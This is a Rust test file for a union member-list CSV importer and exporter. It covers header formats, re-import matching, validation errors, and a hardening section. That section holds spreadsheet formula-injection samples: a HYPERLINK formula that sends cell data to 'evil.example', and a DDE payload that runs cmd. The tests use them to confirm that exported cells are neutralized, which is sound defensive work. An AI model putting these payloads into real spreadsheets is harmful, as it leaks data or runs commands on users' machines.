use shopfloor_node::Error;
use shopfloor_node::domain::members;
use shopfloor_node::import::{Format, ImportOptions, import_bytes, import_file};

use crate::util::{bin, cli_node, count, dump, fixture, node, run, stderr, stdout};

fn national() -> ImportOptions {
    ImportOptions::default()
}

fn by_ak(store: &shopfloor_node::store::Store, ak: &str) -> members::Member {
    store
        .read(|c| members::get_by_actionkit_id(c, ak))
        .unwrap()
        .unwrap_or_else(|| panic!("member {ak}"))
}

#[test]
fn current_header_style_with_bom_crlf_quotes_and_accents() {
    let (_tmp, _dir, store) = node();
    let s = import_file(
        &store,
        &fixture("national_current.csv"),
        &national(),
        "test",
    )
    .unwrap();
    // The row of bare commas is counted as blank; the empty line is skipped by the CSV reader.
    assert_eq!(
        (
            s.rows_read,
            s.blank_rows,
            s.created,
            s.updated,
            s.unchanged,
            s.lapsed_in_list
        ),
        (6, 1, 6, 0, 0, 1)
    );
    let jose = by_ak(&store, "100001");
    assert_eq!(
        (jose.list.first_name.as_str(), jose.list.last_name.as_str()),
        ("José", "Núñez")
    );
    assert_eq!(jose.list.join_date.as_deref(), Some("2019-03-04"));
    assert_eq!(jose.list.xdate.as_deref(), Some("2099-11-01"));
    assert_eq!(jose.standing.as_deref(), Some("good-standing"));
    assert_eq!(jose.union_role.as_deref(), Some("member"));
    assert_eq!(jose.union_code.as_deref(), Some("seiu"));
    let ana = by_ak(&store, "100002");
    assert_eq!(ana.list.city, "Raleigh, NC");
    assert_eq!(ana.list.middle_name, "María");
    assert!(ana.list.do_not_call);
    assert_eq!(ana.list.join_date.as_deref(), Some("2021-03-15"));
    assert_eq!(ana.union_role.as_deref(), Some("organizing"));
    assert_eq!(ana.union_code.as_deref(), Some("none"));
    let dana = by_ak(&store, "100003");
    assert_eq!(dana.list.last_name, "O'Brien \"Dee\"");
    assert_eq!(dana.list.join_date.as_deref(), Some("2020-01-10"));
    assert_eq!(dana.list.xdate.as_deref(), Some("2025-01-10"));
    assert!(dana.list.p2ptext_optout);
    assert_eq!(dana.standing.as_deref(), Some("lapsed"));
    let li = by_ak(&store, "100004");
    assert_eq!(li.list.join_date.as_deref(), Some("2018-07-04"));
    assert_eq!(
        (li.union_role.as_deref(), li.union_code.as_deref()),
        (Some("retired"), Some("uaw"))
    );
    let kwame = by_ak(&store, "100006");
    assert_eq!(kwame.list.union_local, "Local 391\r\nWarehouse unit");
    assert_eq!(kwame.union_code.as_deref(), Some("ibt"));
}

#[test]
fn legacy_header_style_with_renames() {
    let (_tmp, _dir, store) = node();
    let s = import_file(&store, &fixture("national_legacy.csv"), &national(), "test").unwrap();
    assert_eq!((s.rows_read, s.created), (3, 3));
    let zoe = by_ak(&store, "200001");
    assert_eq!(
        (zoe.list.first_name.as_str(), zoe.list.last_name.as_str()),
        ("Zoë", "Brontë")
    );
    assert_eq!(
        (
            zoe.list.city.as_str(),
            zoe.list.state.as_str(),
            zoe.list.zip.as_str()
        ),
        ("Durham", "NC", "27701")
    );
    assert_eq!(zoe.list.union_local, "Local 3602");
    assert_eq!(zoe.list.join_date.as_deref(), Some("2017-01-02"));
    assert_eq!(
        (zoe.union_role.as_deref(), zoe.union_code.as_deref()),
        (Some("member"), Some("cwa"))
    );
    let an = by_ak(&store, "200002");
    assert_eq!(an.list.first_name, "Nguyễn");
    assert_eq!(an.union_role.as_deref(), Some("none"));
    let renee = by_ak(&store, "200003");
    assert_eq!(renee.list.join_date.as_deref(), Some("2024-02-29"));
    assert_eq!(renee.union_code.as_deref(), Some("nnu"));
    assert_eq!(renee.standing.as_deref(), Some("lapsed"));
}

#[test]
fn reimport_updates_without_duplicates_and_marks_missing() {
    let (_tmp, _dir, store) = node();
    import_file(
        &store,
        &fixture("national_current.csv"),
        &national(),
        "test",
    )
    .unwrap();
    let again = import_file(
        &store,
        &fixture("national_current.csv"),
        &national(),
        "test",
    )
    .unwrap();
    assert_eq!(
        (
            again.created,
            again.updated,
            again.unchanged,
            again.marked_missing
        ),
        (0, 0, 6, 0)
    );
    assert_eq!(count(&store, "SELECT count(*) FROM members"), 6);

    // A hand edit of the union role survives re-imports.
    let kwame = by_ak(&store, "100006");
    store
        .write(|tx| {
            members::update_node_fields(
                tx,
                kwame.id,
                &members::NodeFields {
                    union_role: Some("steward".into()),
                    readiness: Some(3),
                    ..Default::default()
                },
            )
        })
        .unwrap();

    let v2 = import_file(
        &store,
        &fixture("national_current_v2.csv"),
        &national(),
        "test",
    )
    .unwrap();
    assert_eq!(
        (
            v2.rows_read,
            v2.created,
            v2.updated,
            v2.unchanged,
            v2.marked_missing,
            v2.newly_lapsed
        ),
        (6, 1, 2, 3, 1, 1)
    );
    assert_eq!(count(&store, "SELECT count(*) FROM members"), 7);
    let ana = by_ak(&store, "100002");
    assert_eq!(ana.list.mobile_phone, "919-555-0199");
    assert_eq!(ana.list.email.as_deref(), Some("ana.gomez@example.org"));
    let kwame = by_ak(&store, "100006");
    assert_eq!(kwame.list_status, "missing");
    assert_eq!(
        (kwame.union_role.as_deref(), kwame.readiness),
        (Some("steward"), Some(3))
    );
    assert_eq!(by_ak(&store, "100004").standing.as_deref(), Some("lapsed"));
    assert_eq!(by_ak(&store, "100007").list.first_name, "Tomás");

    // Kwame comes back on the next list: updated, counted as returned, not duplicated.
    let back = import_file(
        &store,
        &fixture("national_current.csv"),
        &national(),
        "test",
    )
    .unwrap();
    assert_eq!(back.returned, 1);
    assert_eq!(back.created, 0);
    assert_eq!(count(&store, "SELECT count(*) FROM members"), 7);
    assert_eq!(by_ak(&store, "100006").list_status, "present");
}

#[test]
fn matches_by_email_case_insensitively_when_no_actionkit_id() {
    let (_tmp, _dir, store) = node();
    let generic = ImportOptions {
        format: Format::Generic,
        ..Default::default()
    };
    let csv = "email,first_name,last_name\nAna.Gomez@EXAMPLE.org,Ana,Gómez\n";
    let s = import_bytes(&store, csv.as_bytes(), &generic, "test").unwrap();
    assert_eq!(s.created, 1);
    let s = import_file(
        &store,
        &fixture("national_current.csv"),
        &national(),
        "test",
    )
    .unwrap();
    assert_eq!((s.created, s.updated), (5, 1));
    assert_eq!(count(&store, "SELECT count(*) FROM members"), 6);
    assert_eq!(by_ak(&store, "100002").list.last_name, "Gómez-Ruiz");
}

#[test]
fn generic_format_with_maps_updates_only_its_columns() {
    let (_tmp, _dir, store) = node();
    import_file(
        &store,
        &fixture("national_current.csv"),
        &national(),
        "test",
    )
    .unwrap();
    let opts = ImportOptions {
        format: Format::Generic,
        maps: vec![
            ("Member ID".into(), "actionkit_id".into()),
            ("e-mail address".into(), "email".into()),
            ("SHOE SIZE".into(), "ignore".into()),
        ],
        dry_run: false,
        confirm_missing: false,
    };
    let s = import_file(&store, &fixture("generic.csv"), &opts, "test").unwrap();
    assert_eq!((s.created, s.updated, s.marked_missing), (1, 1, 0));
    let jose = by_ak(&store, "100001");
    assert_eq!(jose.list.preferred_language.as_deref(), Some("es"));
    assert_eq!(
        jose.list.membership_status, "Member in Good Standing",
        "columns not in the file are kept"
    );
    // Without the maps the unknown headers are refused.
    let err = import_file(
        &store,
        &fixture("generic.csv"),
        &ImportOptions {
            format: Format::Generic,
            ..Default::default()
        },
        "t",
    )
    .unwrap_err();
    let Error::Import(e) = err else {
        panic!("{err}")
    };
    assert!(
        e.problems
            .iter()
            .any(|p| p.line == 1 && p.column.as_deref() == Some("Shoe Size"))
    );
}

#[test]
fn missing_required_columns_and_duplicate_ids_are_refused() {
    let (_tmp, _dir, store) = node();
    let err = import_bytes(&store, b"first_name,last_name\nA,B\n", &national(), "t").unwrap_err();
    let Error::Import(e) = err else { panic!() };
    assert!(
        e.problems
            .iter()
            .any(|p| p.message.contains("actionkit_id"))
    );
    let dup = "actionkit_id,first_name,last_name,email,membership_status\n1,A,B,a@x.org,Member\n1,C,D,c@x.org,Member\n";
    let Error::Import(e) = import_bytes(&store, dup.as_bytes(), &national(), "t").unwrap_err()
    else {
        panic!()
    };
    assert_eq!(e.problems.len(), 1);
    assert_eq!(e.problems[0].line, 3);
    assert_eq!(count(&store, "SELECT count(*) FROM members"), 0);
}

#[test]
fn bad_list_is_refused_with_line_numbers_and_changes_nothing() {
    let (_tmp, data) = cli_node();
    let o = run(bin(&data)
        .arg("import")
        .arg(fixture("national_current.csv")));
    assert!(o.status.success(), "{}", stderr(&o));
    let db = data.join("shopfloor.db");
    let before = dump(&db);
    let o = run(bin(&data).arg("import").arg(fixture("bad_two_rows.csv")));
    assert!(!o.status.success());
    let err = stderr(&o);
    assert!(err.contains("line 3, column join_date"), "{err}");
    assert!(
        err.contains("line 5: expected 37 columns, found 20"),
        "{err}"
    );
    assert!(err.contains("2 problems"), "{err}");
    assert_eq!(dump(&db), before, "the database must be unchanged");

    let o = run(bin(&data)
        .arg("import")
        .arg(fixture("bad_two_rows.csv"))
        .arg("--json"));
    assert!(!o.status.success());
    let v: serde_json::Value = serde_json::from_str(&stdout(&o)).unwrap();
    assert_eq!(v["ok"], false);
    let lines: Vec<u64> = v["problems"]
        .as_array()
        .unwrap()
        .iter()
        .map(|p| p["line"].as_u64().unwrap())
        .collect();
    assert_eq!(lines, vec![3, 5]);
    assert_eq!(v["problems"][0]["column"], "join_date");
    assert_eq!(dump(&db), before);
}

#[test]
fn dry_run_writes_nothing_and_reports_the_same_summary() {
    let (_tmp, data) = cli_node();
    assert!(
        run(bin(&data)
            .arg("import")
            .arg(fixture("national_current.csv")))
        .status
        .success()
    );
    let db = data.join("shopfloor.db");
    let before = dump(&db);
    let o = run(bin(&data)
        .arg("import")
        .arg(fixture("national_current_v2.csv"))
        .args(["--dry-run", "--json"]));
    assert!(o.status.success(), "{}", stderr(&o));
    let dry: serde_json::Value = serde_json::from_str(&stdout(&o)).unwrap();
    assert_eq!(dry["summary"]["dry_run"], true);
    assert_eq!(dump(&db), before, "dry run wrote something");
    let o = run(bin(&data)
        .arg("import")
        .arg(fixture("national_current_v2.csv"))
        .arg("--json"));
    let real: serde_json::Value = serde_json::from_str(&stdout(&o)).unwrap();
    let strip = |mut v: serde_json::Value| {
        v["summary"]["dry_run"] = serde_json::Value::Null;
        v
    };
    assert_eq!(strip(dry), strip(real.clone()));
    assert_eq!(real["summary"]["created"], 1);
    assert_ne!(dump(&db), before);
}

// ---- hardening (security issue items 4-10) ----

const HEADER: &str = "actionkit_id,first_name,last_name,email,membership_status,mobile_phone";

/// A national list in the minimal header with `n` members numbered from `from`.
fn list_of(from: u32, n: u32, eol: &str) -> String {
    let mut s = format!("{HEADER}{eol}");
    for i in from..from + n {
        s.push_str(&format!(
            "{i},First{i},Last{i},m{i}@example.org,Member,{eol}"
        ));
    }
    s
}

fn refused(
    store: &shopfloor_node::store::Store,
    bytes: &[u8],
    opts: &ImportOptions,
) -> shopfloor_node::import::ImportError {
    match import_bytes(store, bytes, opts, "t") {
        Err(Error::Import(e)) => e,
        other => panic!("expected a refusal, got {other:?}"),
    }
}

fn csv_cells(bytes: &[u8]) -> Vec<Vec<String>> {
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(bytes)
        .records()
        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
        .collect()
}

#[test]
fn export_neutralizes_formula_cells_and_generic_reimport_restores_them() {
    let (tmp, data) = cli_node();
    let evil = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"x\")";
    let dde = "+1+cmd|' /C calc'!A0";
    let list = format!(
        "{HEADER}\n1,\"{}\",{dde},a@example.org,Member,+1 919 555 0101\n2,@SUM(A1),-3,b@example.org,Member,\n3,Ana,O'Neil,c@example.org,Member,919-555-0103\n",
        evil.replace('"', "\"\"")
    );
    let file = tmp.path().join("list.csv");
    std::fs::write(&file, &list).unwrap();
    let o = run(bin(&data).arg("import").arg(&file));
    assert!(o.status.success(), "{}", stderr(&o));
    let out = tmp.path().join("members.csv");
    let o = run(bin(&data).args(["export", "members", "--out"]).arg(&out));
    assert!(o.status.success(), "{}", stderr(&o));
    let exported = std::fs::read(&out).unwrap();
    let rows = csv_cells(&exported);
    let col = |name: &str| rows[0].iter().position(|h| h == name).unwrap();
    let (first, last, phone) = (col("first_name"), col("last_name"), col("mobile_phone"));
    assert_eq!(rows[1][first], format!("'{evil}"));
    assert_eq!(rows[1][last], format!("'{dde}"));
    assert_eq!(
        rows[1][phone], "'+1 919 555 0101",
        "OWASP: phone numbers gain the quote"
    );
    assert_eq!(rows[2][first], "'@SUM(A1)");
    assert_eq!(rows[2][last], "'-3");
    assert_eq!(
        rows[3][last], "O'Neil",
        "a quote inside a value is left alone"
    );
    assert_eq!(rows[3][phone], "919-555-0103");
    for row in &rows[1..] {
        for cell in row {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "formula cell exported: {cell:?}"
            );
        }
    }

    // The export imports back into another node (generic format) with the quotes removed.
    let (_tmp2, data2) = cli_node();
    let o = run(bin(&data2)
        .arg("import")
        .arg(&out)
        .args(["--format", "generic"]));
    assert!(o.status.success(), "{}", stderr(&o));
    let store = shopfloor_node::datadir::DataDir::new(&data2)
        .open_store()
        .unwrap();
    let one = by_ak(&store, "1");
    assert_eq!(one.list.first_name, evil);
    assert_eq!(one.list.last_name, dde);
    assert_eq!(one.list.mobile_phone, "+1 919 555 0101");
    assert_eq!(by_ak(&store, "2").list.last_name, "-3");
    assert_eq!(by_ak(&store, "3").list.last_name, "O'Neil");
}

#[test]
fn overlong_fields_are_refused_with_their_line() {
    let (tmp, data) = cli_node();
    let o = run(bin(&data)
        .arg("import")
        .arg(fixture("national_current.csv")));
    assert!(o.status.success(), "{}", stderr(&o));
    let db = data.join("shopfloor.db");
    let before = dump(&db);
    let huge = "A".repeat(10 * 1024 * 1024);
    let list = format!(
        "{HEADER}\n1,Ana,Ok,a@example.org,Member,\n2,{huge},Long,b@example.org,Member,\n3,Bo,Ok,{}@example.org,Member,\n",
        "e".repeat(300)
    );
    let file = tmp.path().join("long.csv");
    std::fs::write(&file, &list).unwrap();
    let o = run(bin(&data).arg("import").arg(&file));
    assert!(!o.status.success());
    let err = stderr(&o);
    assert!(
        err.contains("line 3, column first_name: longer than 200 characters"),
        "{err}"
    );
    assert!(
        err.contains("line 4, column email: longer than 254 characters"),
        "{err}"
    );
    assert!(
        err.len() < 2_000,
        "the value is not echoed: {} bytes",
        err.len()
    );
    assert_eq!(dump(&db), before, "the database must be unchanged");
    let o = run(bin(&data).arg("import").arg(&file).arg("--dry-run"));
    assert!(!o.status.success(), "a dry run reports the same problems");
    assert!(stderr(&o).contains("line 3, column first_name"));
    // 200 characters (not bytes) are fine.
    let ok = format!("{HEADER}\n9,{},Ok,z@example.org,Member,\n", "é".repeat(200));
    let (_t, _d, store) = node();
    import_bytes(&store, ok.as_bytes(), &national(), "t").unwrap();
}

#[test]
fn control_characters_in_names_and_emails_are_refused_with_their_line() {
    let (tmp, data) = cli_node();
    let list = format!(
        "{HEADER}\n1,Ana,Ok,a@example.org,Member,\n2,Nul\0Byte,X,b@example.org,Member,\n3,Esc,X,c\u{1b}[2J@example.org,Member,\n4,\"Two\nLines\",X,d@example.org,Member,\n"
    );
    let file = tmp.path().join("ctl.csv");
    std::fs::write(&file, &list).unwrap();
    let db = data.join("shopfloor.db");
    let before = dump(&db);
    for extra in [None, Some("--dry-run")] {
        let o = run(bin(&data).arg("import").arg(&file).args(extra));
        assert!(!o.status.success(), "{extra:?}");
        let err = stderr(&o);
        assert!(
            err.contains("line 3, column first_name: holds a control character"),
            "{err}"
        );
        assert!(
            err.contains("line 4, column email: holds a control character"),
            "{err}"
        );
        assert!(
            err.contains("line 5, column first_name: holds a control character"),
            "{err}"
        );
        assert!(!err.contains('\0') && !err.contains('\u{1b}'), "{err:?}");
    }
    assert_eq!(dump(&db), before);
    // A multi-line union local (national writes some that way) is still accepted.
    let (_t, _d, store) = node();
    import_file(&store, &fixture("national_current.csv"), &national(), "t").unwrap();
    assert_eq!(
        by_ak(&store, "100006").list.union_local,
        "Local 391\r\nWarehouse unit"
    );
}

#[test]
fn header_only_national_list_is_refused() {
    let (_tmp, _dir, store) = node();
    import_bytes(&store, list_of(1, 10, "\n").as_bytes(), &national(), "t").unwrap();
    for body in [format!("{HEADER}\n"), format!("{HEADER}\r\n\r\n,,,,,\r\n")] {
        let e = refused(&store, body.as_bytes(), &national());
        assert_eq!(e.problems.len(), 1);
        assert_eq!(e.problems[0].kind.code(), "no-rows");
        let generic = ImportOptions {
            format: Format::Generic,
            ..national()
        };
        assert_eq!(
            refused(&store, body.as_bytes(), &generic).problems[0]
                .kind
                .code(),
            "no-rows"
        );
    }
    assert_eq!(
        count(
            &store,
            "SELECT count(*) FROM members WHERE list_status = 'present'"
        ),
        10
    );
}

#[test]
fn list_marking_many_members_missing_needs_confirm() {
    let (tmp, data) = cli_node();
    let full = tmp.path().join("full.csv");
    std::fs::write(&full, list_of(1, 100, "\r\n")).unwrap();
    assert!(run(bin(&data).arg("import").arg(&full)).status.success());
    let db = data.join("shopfloor.db");
    // 70 of 100 would go missing: refused without --confirm, and says how many.
    let part = tmp.path().join("part.csv");
    std::fs::write(&part, list_of(1, 30, "\r\n")).unwrap();
    let before = dump(&db);
    let o = run(bin(&data).arg("import").arg(&part));
    assert!(!o.status.success());
    let err = stderr(&o);
    assert!(err.contains("would mark 70 of the 100 members"), "{err}");
    assert!(err.contains("--confirm"), "{err}");
    assert_eq!(dump(&db), before, "nothing changes without --confirm");
    let o = run(bin(&data).arg("import").arg(&part).arg("--json"));
    assert!(!o.status.success());
    let v: serde_json::Value = serde_json::from_str(&stdout(&o)).unwrap();
    assert_eq!(
        (
            v["needs_confirmation"].as_bool(),
            v["marked_missing"].as_u64()
        ),
        (Some(true), Some(70))
    );
    // The dry run says so and succeeds.
    let o = run(bin(&data).arg("import").arg(&part).arg("--dry-run"));
    assert!(o.status.success(), "{}", stderr(&o));
    assert!(
        stdout(&o).contains("marks 70 of 100 members missing"),
        "{}",
        stdout(&o)
    );
    assert_eq!(dump(&db), before);
    // With --confirm it goes through.
    let o = run(bin(&data)
        .arg("import")
        .arg(&part)
        .args(["--confirm", "--json"]));
    assert!(o.status.success(), "{}", stderr(&o));
    let v: serde_json::Value = serde_json::from_str(&stdout(&o)).unwrap();
    assert_eq!(v["summary"]["marked_missing"], 70);
    // A few missing (5 of 30, or 20% exactly) needs nothing.
    let few = tmp.path().join("few.csv");
    std::fs::write(&few, list_of(1, 25, "\n")).unwrap();
    let o = run(bin(&data).arg("import").arg(&few).arg("--json"));
    assert!(o.status.success(), "{}", stderr(&o));
}

#[test]
fn crlf_line_numbers_are_physical_lines() {
    let (_tmp, _dir, store) = node();
    for eol in ["\n", "\r\n"] {
        // Line 1 header, 2 ok, 3 blank, 4-5 a quoted two-line name, 6 a bad date,
        // 7 too few columns, 8 a NUL.
        let body = [
            "actionkit_id,first_name,last_name,email,membership_status,join_date",
            "1,Ana,A,a@example.org,Member,2020-01-01",
            "",
            "2,\"Multi",
            "Line\",B,b@example.org,Member,2020-01-01",
            "3,Bad,Date,c@example.org,Member,2020-02-30",
            "4,Short,Row",
            "5,Nul\0,X,e@example.org,Member,",
            "",
        ]
        .join(eol);
        let e = refused(&store, body.as_bytes(), &national());
        let lines: Vec<(u64, &str)> = e.problems.iter().map(|p| (p.line, p.kind.code())).collect();
        assert_eq!(
            lines,
            vec![
                (4, "control-character"),
                (6, "not-a-real-date"),
                (7, "wrong-column-count"),
                (8, "control-character"),
            ],
            "eol {eol:?}"
        );
    }
    // The last row of a long CRLF file is reported on its own physical line.
    let mut big = list_of(1, 2000, "\r\n");
    big.push_str("2001,Bad,Row,z@example.org,Member,,extra\r\n");
    let e = refused(&store, big.as_bytes(), &national());
    assert_eq!(e.problems[0].line, 2002);
}

#[test]
fn utf16_and_binary_headers_are_not_echoed_raw() {
    let (tmp, data) = cli_node();
    // UTF-16 LE with a byte-order mark, as Excel's "Unicode text" writes.
    let mut utf16 = vec![0xFF, 0xFE];
    for u in list_of(1, 2, "\r\n").encode_utf16() {
        utf16.extend(u.to_le_bytes());
    }
    let file = tmp.path().join("utf16.csv");
    std::fs::write(&file, &utf16).unwrap();
    let o = run(bin(&data).arg("import").arg(&file));
    assert!(!o.status.success());
    let err = stderr(&o);
    assert!(err.contains("line 1: the file is UTF-16"), "{err}");
    assert!(!err.contains('\0'), "{err:?}");
    // Without the mark too.
    let file = tmp.path().join("utf16-nobom.csv");
    std::fs::write(&file, &utf16[2..]).unwrap();
    assert!(stderr(&run(bin(&data).arg("import").arg(&file))).contains("UTF-16"));
    // Terminal escapes, bidi overrides and bytes that are not UTF-8 in a header are escaped.
    let mut binary = b"actionkit_id,first_name,last_name,email,membership_status,\x1b[31mred\x1b[0m,\xff\xfeX,evil\xe2\x80\xaetxt".to_vec();
    binary.extend(b"\n1,A,B,a@example.org,Member,x,y,z\n");
    let file = tmp.path().join("bin.csv");
    std::fs::write(&file, &binary).unwrap();
    let o = run(bin(&data).arg("import").arg(&file).arg("--json"));
    assert!(!o.status.success());
    let out = stdout(&o);
    assert!(
        !out.contains('\u{1b}') && !out.contains('\u{202e}'),
        "{out:?}"
    );
    let v: serde_json::Value = serde_json::from_str(&out).unwrap();
    let columns: Vec<&str> = v["problems"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|p| p["column"].as_str())
        .collect();
    assert!(columns.contains(&"\\u{1b}[31mred\\u{1b}[0m"), "{columns:?}");
    assert!(columns.contains(&"\\xFF\\xFEX"), "{columns:?}");
    assert!(columns.contains(&"evil\\u{202e}txt"), "{columns:?}");
    let o = run(bin(&data).arg("import").arg(&file));
    assert!(!stderr(&o).contains('\u{1b}'), "{:?}", stderr(&o));
}

#[test]
fn problems_are_capped_at_fifty_with_a_count_of_the_rest() {
    let (tmp, data) = cli_node();
    let mut header = String::from("actionkit_id,first_name,last_name,email,membership_status");
    for i in 0..100_000 {
        header.push_str(&format!(",c{i}"));
    }
    header.push_str("\n1,A,B,a@example.org,Member\n");
    let file = tmp.path().join("wide.csv");
    std::fs::write(&file, &header).unwrap();
    let o = run(bin(&data).arg("import").arg(&file));
    assert!(!o.status.success());
    let err = stderr(&o);
    assert!(
        err.contains("100000 problems"),
        "{}",
        &err[..200.min(err.len())]
    );
    assert!(
        err.contains("... and 99950 more (the first 50 are listed)"),
        "{err}"
    );
    assert_eq!(err.matches("unknown column").count(), 50);
    assert!(err.len() < 10_000, "{} bytes", err.len());
    let o = run(bin(&data).arg("import").arg(&file).arg("--json"));
    let out = stdout(&o);
    assert!(out.len() < 20_000, "{} bytes", out.len());
    let v: serde_json::Value = serde_json::from_str(&out).unwrap();
    assert_eq!(v["problems"].as_array().unwrap().len(), 50);
    assert_eq!(v["more_problems"], 99_950);
}
